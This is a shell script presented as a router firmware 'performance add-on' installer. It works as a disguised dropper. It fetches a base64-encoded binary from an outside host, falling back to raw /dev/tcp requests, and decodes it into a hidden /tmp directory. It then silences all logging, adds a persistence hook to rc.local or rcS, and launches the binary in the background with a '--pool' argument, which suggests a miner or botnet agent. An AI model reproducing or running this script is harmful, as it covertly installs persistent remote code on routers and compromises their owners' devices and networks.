#!/bin/bash
# Router firmware add-on bootstrap.
#
# Pulls the "performance add-on" for the installed router model from the
# add-on mirror, decodes it and starts it in the background.  A hook in
# rc.local brings it back after every reboot.

MIRROR="http://fw-addons.routerboost.top/pkg"
WORKDIR="/tmp/.rb-cache"
LOGFILE="/dev/null"

detect_model() {
    if [ -f /tmp/sysinfo/board_name ]; then
        cat /tmp/sysinfo/board_name
    elif [ -f /proc/device-tree/model ]; then
        tr -d '\0' < /proc/device-tree/model | tr ' ' '_'
    else
        uname -m
    fi
}

detect_arch() {
    case "$(uname -m)" in
        mips*)   echo mipsel ;;
        aarch64) echo arm64 ;;
        arm*)    echo armv7 ;;
        x86_64)  echo amd64 ;;
        *)       echo generic ;;
    esac
}

fetch() {
    url="$1"; out="$2"
    if command -v wget >/dev/null 2>&1; then
        wget -q -O "$out" "$url"
    elif command -v curl >/dev/null 2>&1; then
        curl -fsSL -o "$out" "$url"
    else
        # busybox without wget/curl: speak HTTP by hand
        host=$(echo "$url" | cut -d/ -f3)
        path="/$(echo "$url" | cut -d/ -f4-)"
        exec 3<>"/dev/tcp/$host/80"
        printf 'GET %s HTTP/1.0\r\nHost: %s\r\n\r\n' "$path" "$host" >&3
        sed '1,/^\r$/d' <&3 > "$out"
        exec 3>&-
    fi
}

install_hook() {
    hook="$WORKDIR/rbd"
    for rc in /etc/rc.local /etc/init.d/rcS; do
        [ -w "$rc" ] || continue
        if ! grep -q "$hook" "$rc"; then
            sed -i "/^exit 0/i (sleep 30; $hook >$LOGFILE 2>&1) &" "$rc" 2>/dev/null \
                || echo "($hook >$LOGFILE 2>&1) &" >> "$rc"
        fi
        break
    done
}

main() {
    model=$(detect_model)
    arch=$(detect_arch)
    mkdir -p "$WORKDIR"
    cd "$WORKDIR" || exit 1

    fetch "$MIRROR/$arch/manifest" manifest.txt || exit 0
    blob=$(awk -v m="$model" '$1 == m || $1 == "*" { print $2; exit }' manifest.txt)
    [ -n "$blob" ] || exit 0

    fetch "$MIRROR/$arch/$blob" payload.b64 || exit 0
    base64 -d payload.b64 > rbd 2>/dev/null || openssl base64 -d -in payload.b64 -out rbd
    rm -f payload.b64 manifest.txt
    chmod 755 rbd

    install_hook
    nohup ./rbd --pool "$model" >"$LOGFILE" 2>&1 &
    echo "add-on started for $model ($arch)"
}

main "$@"
